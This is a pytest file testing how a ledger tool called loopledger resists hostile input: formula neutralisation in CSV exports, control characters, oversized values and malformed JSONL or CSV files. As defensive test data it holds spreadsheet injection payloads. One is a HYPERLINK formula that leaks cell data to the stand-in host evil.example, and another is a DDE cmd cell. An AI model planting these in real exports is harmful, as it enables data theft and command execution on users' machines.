"""Input that tries to break a reader (issue 16, findings 4 and 5), on both backends: formula
cells in CSV exports, control characters and oversized text, implausible amounts, and hostile
files (bad UTF-8, deep nesting, huge fields) that must be reported as row problems, never a
traceback. Spreadsheet safety is checked on the written bytes with the csv module, not with
loopledger's reader."""

from __future__ import annotations

import csv
import json
import math

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from loopledger import Ledger, ValidationError
from loopledger.ledger.limits import MAX_ID_LENGTH, MAX_LEG_USD_BN, MAX_TEXT_LENGTH
from loopledger.ledger.tables import FORMULA_START, neutralise, unneutralise

from .conftest import write_folder

SRC = {"url": "https://example.org/hostile", "publisher": "Example", "date": "2026-01-01", "type": "news"}
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "'=already quoted", "''", "'tens of billions'", "=", "-", "plain text"]


def _cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=12))
def test_neutralised_text_never_starts_a_formula_and_comes_back(text):
    out = neutralise(text)
    assert out[:1] not in FORMULA_START
    assert unneutralise(out) == text
    if text[:1] not in (*FORMULA_START, "'"):
        assert out == text  # everything else is written as it is


def test_csv_export_neutralises_formulas_and_import_reverses_it(db_url, ledger_folder, tmp_path, cli):
    ledger = Ledger.open(db_url)
    ledger.import_path(ledger_folder)
    for i, note in enumerate(FORMULAS):
        ledger.amend("deals", "acme-bolt-1", {"notes": note, "amount_note": note}, source=SRC, reason=f"r{i}")
        ledger.export(tmp_path / f"out{i}", "csv")
        row = next(r for r in _cells(tmp_path / f"out{i}" / "deals.csv") if r["id"] == "acme-bolt-1")
        for col in ("notes", "amount_note"):
            assert row[col][:1] not in FORMULA_START, (note, row[col])
            assert row[col] in (note, "'" + note)
        # the other tables' cells too: no cell of the export starts a formula
        for table in ("sources", "companies", "deals", "events", "facts"):
            for r in _cells(tmp_path / f"out{i}" / f"{table}.csv"):
                numeric = {"value", "amount_low", "amount_high", "fx_rate", "power_gw", "gpu_count",
                           "share_count", "stake_pct", "stake_value"}
                assert all(v[:1] not in FORMULA_START for k, v in r.items() if k not in numeric)
        # and an import gives back the exact text
        other = Ledger.open(f"sqlite:///{tmp_path / f'back{i}.db'}")
        other.import_path(tmp_path / f"out{i}")
        back = other.record("deals", "acme-bolt-1")
        assert (back.notes, back.amount_note) == (note.strip() or None, note.strip() or None)
        other.export(tmp_path / f"again{i}", "csv")
        assert (tmp_path / f"again{i}" / "deals.csv").read_bytes() == (tmp_path / f"out{i}" / "deals.csv").read_bytes()


def test_negative_numbers_are_not_touched(tmp_path, ledger_folder, base_tables):
    base_tables["facts"][0].update(metric="net_loss", value="-5")
    folder = write_folder(tmp_path / "neg", base_tables)
    led = Ledger.in_memory()
    led.import_path(folder)
    led.export(tmp_path / "out", "csv")
    assert _cells(tmp_path / "out" / "facts.csv")[0]["value"] == "-5"


@pytest.mark.parametrize("bad,field", [
    ({"notes": "before\x00after"}, "notes"),
    ({"notes": "escape \x1b[31m red"}, "notes"),
    ({"notes": "carriage\rreturn"}, "notes"),
    ({"notes": "lone \ud800 surrogate"}, "notes"),
    ({"payer_detail": "C1 \x85 next line"}, "payer_detail"),
    ({"payer_detail": "line\u2028separator"}, "payer_detail"),
    ({"notes": "x" * (MAX_TEXT_LENGTH + 1)}, "notes"),
    ({"units": "y" * 1001}, "units"),
])
def test_control_characters_and_oversized_text_are_refused(db_url, ledger_folder, bad, field):
    """NUL is the known difference: PostgreSQL refuses it, SQLite stores it. The model refuses
    it (and every other control character) before either sees it."""
    ledger = Ledger.open(db_url)
    ledger.import_path(ledger_folder)
    head = ledger.store.audit_head()
    with pytest.raises(ValidationError) as e:
        ledger.amend("deals", "acme-bolt-1", bad, source=SRC, reason="hostile")
    assert field in {p.column for p in e.value.problems}
    with pytest.raises(ValidationError):
        ledger.add_deal({"id": "x-new", "group": "x", "payer": "acme-chips", "payee": "bolt-ai",
                         "kind": "equity_investment", "confidence": "low", **bad},
                        status="definitive", date="2026-01-01", source=SRC)
    assert ledger.store.audit_head() == head


def test_text_keeps_line_breaks_and_tabs(db_url, ledger_folder, tmp_path):
    ledger = Ledger.open(db_url)
    ledger.import_path(ledger_folder)
    note = "first line\nsecond\tcolumn"
    ledger.amend("deals", "acme-bolt-1", {"notes": note, "payer_detail": note}, source=SRC, reason="multi-line")
    for fmt in ("csv", "jsonl"):
        ledger.export(tmp_path / fmt, fmt)
        other = Ledger.in_memory()
        other.import_path(tmp_path / fmt)
        assert other.record("deals", "acme-bolt-1").notes == note
        assert other.record("deals", "acme-bolt-1").payer_detail == note


def test_ids_and_reasons_have_limits(db_url, ledger_folder):
    ledger = Ledger.open(db_url)
    ledger.import_path(ledger_folder)
    with pytest.raises(ValidationError) as e:
        ledger.add({"companies": [{"id": "c" * (MAX_ID_LENGTH + 1), "name": "Long", "type": "ai_lab"}]})
    assert e.value.problems[0].column == "id"
    for reason in ("a\x00b", "r" * (MAX_TEXT_LENGTH + 1)):
        with pytest.raises(ValidationError) as e:
            ledger.amend("deals", "acme-bolt-1", {"notes": "ok"}, source=SRC, reason=reason)
        assert e.value.problems[0].column == "reason"
        with pytest.raises(ValidationError):
            ledger.retract("deals", "acme-bolt-1", reason)
    assert not ledger.record("deals", "acme-bolt-1").retracted


@pytest.mark.parametrize("changes,field", [
    ({"amount_high": 1e300}, "amount_high"),
    ({"amount_low": 1.7e308, "amount_high": 1.7e308}, "amount_high"),
    ({"amount_high": MAX_LEG_USD_BN + 1}, "amount_high"),
    ({"amount_high": 20_000.0, "currency": "EUR", "fx_rate": 1.1}, "amount_high"),
    ({"amount_high": 5.0, "currency": "EUR", "fx_rate": 1e300}, "fx_rate"),
    ({"stake_value": 1e12}, "stake_value"),
    ({"power_gw": 1e300}, "power_gw"),
    ({"amount_high": math.inf}, "amount_high"),
])
def test_amounts_within_reason(db_url, ledger_folder, changes, field):
    ledger = Ledger.open(db_url)
    ledger.import_path(ledger_folder)
    with pytest.raises(ValidationError) as e:
        ledger.amend("deals", "acme-bolt-1", changes, source=SRC, reason="implausible")
    assert field in {p.column for p in e.value.problems}, e.value.problems
    # the bound itself is accepted (converted to USD for other currencies)
    ledger.amend("deals", "acme-bolt-1", {"amount_high": MAX_LEG_USD_BN}, source=SRC, reason="at the bound")
    ledger.amend("deals", "acme-bolt-1", {"currency": "JPY", "fx_rate": 0.0065, "amount_low": 1.0,
                                          "amount_high": 1_500_000.0}, source=SRC, reason="yen")
    assert ledger.record("deals", "acme-bolt-1").usd_high == pytest.approx(9750.0)


def test_money_facts_within_reason(ledger_folder, base_tables, tmp_path):
    base_tables["facts"][0]["value"] = "1e300"
    folder = write_folder(tmp_path / "f", base_tables)
    problems = Ledger.in_memory().validate(folder)
    assert [(p.row, p.column) for p in problems] == [(2, "value")]
    assert "plausible maximum" in problems[0].reason


def test_huge_legs_no_longer_break_the_readers(fresh_ledger):
    """Before: two legs of 1.7e308 made the totals infinite and the API fail for every reader;
    now such a leg never gets in, and the largest accepted legs keep every total finite."""
    deals = [d for d in fresh_ledger.records("deals") if d.amount_high is not None][:2]
    for d in deals:
        with pytest.raises(ValidationError):
            fresh_ledger.amend("deals", d.id, {"amount_low": None, "amount_high": 1.7e308},
                               source=SRC, reason="huge")
        fresh_ledger.amend("deals", d.id, {"amount_low": None, "amount_high": MAX_LEG_USD_BN},
                           source=SRC, reason="largest allowed")
    s = fresh_ledger.summary().to_dict()
    assert all(math.isfinite(v) for v in _numbers(s))


def _numbers(obj):
    if isinstance(obj, float):
        yield obj
    elif isinstance(obj, dict):
        for v in obj.values():
            yield from _numbers(v)
    elif isinstance(obj, (list, tuple)):
        for v in obj:
            yield from _numbers(v)


# --- hostile files -------------------------------------------------------------------------------

def _hostile_jsonl(folder, lines: list[bytes]):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "sources.jsonl").write_bytes(b"\n".join(lines) + b"\n")
    return folder


GOOD = json.dumps({"id": "src-ok", "url": "https://example.org/ok", "publisher": "Ok", "type": "news"}).encode()


@pytest.mark.parametrize("line,reason", [
    (b'{"id": "src-a", "url": "https://example.org/a", "publisher": "Caf\xe9", "type": "news"}', "not valid UTF-8"),
    (b"[" * 100_000 + b"]" * 100_000, "nests too deeply"),
    (b'{"id": "src-b", "url": "https://example.org/b", "publisher": ' + b"[" * 500 + b"]" * 500 + b', "type": "news"}', "publisher"),
    (b'{"id": "src-c", "url": "https://example.org/c", "publisher": "P", "type": "news", "notes": ' + b"9" * 5000 + b"}", "not readable"),
    (b'{"id": "src-d", "url": "https://example.org/d", "publisher": "' + b"p" * 200_000 + b'", "type": "news"}', "at most"),
    (b'{"id": "src-e", "url": "https://example.org/e", "publisher": "P", "type": "news", "type": "filing"}', "appears twice"),
    (b'{"id": "src-f", "url": "https://example.org/f", "publisher": "P\\u0000", "type": "news"}', "NUL"),
    (b'{"id": "src-g", "url": "https://example.org/g", "publisher": "P", "type": "news", "notes": NaN}', "notes"),
    (b'"just a string"', "JSON object"),
])
def test_hostile_jsonl_lines_are_row_problems(db_url, tmp_path, cli, line, reason):
    folder = _hostile_jsonl(tmp_path / "in", [GOOD, line, GOOD.replace(b"src-ok", b"src-ok2").replace(b"/ok", b"/ok2")])
    assert cli("init", "--db", db_url, "--empty").code == 0
    for command in ("validate", "import"):
        r = cli(command, folder, "--db", db_url)
        assert r.code == 1, r.out
        assert "Traceback" not in r.err
        lines = [x for x in r.err.splitlines() if x.strip()]
        assert any(x.startswith(f"{folder / 'sources.jsonl'}:2:") and reason in x for x in lines), r.err
        assert all(len(x) < 1000 for x in lines)  # a huge value is quoted short
    assert Ledger.open(db_url).store.count("sources") == 0  # all or nothing


@pytest.mark.parametrize("cell,reason", [
    (b"Caf\xe9 \xff", "not valid UTF-8"),
    # beyond the csv module's field limit (131,072 by default; a library may raise it for the
    # whole process): a CSV problem, or the length limit of the field
    (b'"' + b"x" * 200_000 + b'"', ("not readable CSV", "at most 1,000")),
    (b"P\x00", "NUL"),
    (b"=cmd|' /C calc'!A0", None),  # a formula is plain text on the way in: it imports fine
])
def test_hostile_csv_cells_are_row_problems(db_url, tmp_path, cli, cell, reason):
    folder = tmp_path / "in"
    folder.mkdir()
    rows = [b"id,url,publisher,type", b"src-ok,https://example.org/ok,Ok,news",
            b"src-bad,https://example.org/bad," + cell + b",news", b"src-ok2,https://example.org/ok2,Ok,news"]
    (folder / "sources.csv").write_bytes(b"\n".join(rows) + b"\n")
    assert cli("init", "--db", db_url, "--empty").code == 0
    r = cli("import", folder, "--db", db_url)
    assert "Traceback" not in r.err
    if reason is None:
        assert r.code == 0, r.err
        assert Ledger.open(db_url).record("sources", "src-bad").publisher == cell.decode()
        return
    assert r.code == 1
    reasons = reason if isinstance(reason, tuple) else (reason,)
    assert any(x.startswith(f"{folder / 'sources.csv'}:3:") and any(w in x for w in reasons)
               for x in r.err.splitlines()), r.err
    assert Ledger.open(db_url).store.count("sources") == 0


def test_a_binary_file_is_reported_not_raised(tmp_path, cli):
    folder = tmp_path / "bin"
    folder.mkdir()
    (folder / "deals.csv").write_bytes(bytes(range(256)) * 50)
    r = cli("validate", folder, "--standalone")
    assert r.code == 1 and "Traceback" not in r.err and r.err.strip()
